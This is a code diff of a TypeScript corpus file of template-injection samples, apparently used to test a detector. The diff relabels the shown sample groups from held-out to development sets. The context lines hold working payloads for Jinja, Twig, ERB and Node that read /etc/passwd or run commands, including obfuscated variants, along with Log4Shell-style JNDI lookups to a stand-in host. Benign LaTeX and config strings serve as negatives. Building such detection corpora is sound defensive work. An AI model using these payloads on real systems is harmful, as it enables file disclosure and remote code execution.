@@ -1,5 +1,5 @@
 import type { CategoryCorpus } from './corpus.ts'
-import { carried, cross, dev, held, some } from './corpus.ts'
+import { carried, cross, dev, some } from './corpus.ts'
 
 export const templateCorpus: CategoryCorpus = {
   category: 'template_injection',
@@ -67,7 +67,7 @@ export const templateCorpus: CategoryCorpus = {
       '${jndi:dns://h.example}',
       '${${env:X:-j}ndi${env:X:-:}ldap://h.example/a}',
     ]),
-    held(
+    dev(
       'twig and nunjucks',
       carried([
         "{{['cat /etc/passwd']|map('passthru')|join}}",
@@ -80,7 +80,7 @@ export const templateCorpus: CategoryCorpus = {
         "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
       ]),
     ),
-    held('filters hide names', [
+    dev('filters hide names', [
       "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
       "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
       "{{request['__cl'+'ass__']}}",
@@ -90,7 +90,7 @@ export const templateCorpus: CategoryCorpus = {
       '{%print(lipsum.__globals__)%}',
       '{{url_for.__globals__}}',
     ]),
-    held('other engines', [
+    dev('other engines', [
       '<%= File.open("/etc/passwd").read %>',
       '<%= IO.popen("id").readlines() %>',
       '#{root.process.mainModule.require("child_process")}',
@@ -156,7 +156,7 @@ export const templateCorpus: CategoryCorpus = {
       'std::vector<int> v{{1, 2}, {3, 4}};',
       'x = {7*7}',
     ]),
-    held(
+    dev(
       'prompts with slots',
       some(
         20,
@@ -167,7 +167,7 @@ export const templateCorpus: CategoryCorpus = {
         ),
       ),
     ),
-    held('latex and math', [
+    dev('latex and math', [
       '\\frac{{a+b}}{{2}}',
       '$x^{2*n}$',
       '\\sum_{i=1}^{n} {{i}}',
@@ -181,7 +181,7 @@ export const templateCorpus: CategoryCorpus = {
       '\\mathbb{R}^{3 \\times 3}',
       '{\\color{red} 7*7}',
     ]),
-    held('infra files', [
+    dev('infra files', [
       'image: "{{ registry }}/app:{{ tag }}"',
       'name: ${PROJECT_NAME:-demo}',
       "\"{{ lookup('env', 'HOME') }}\"",
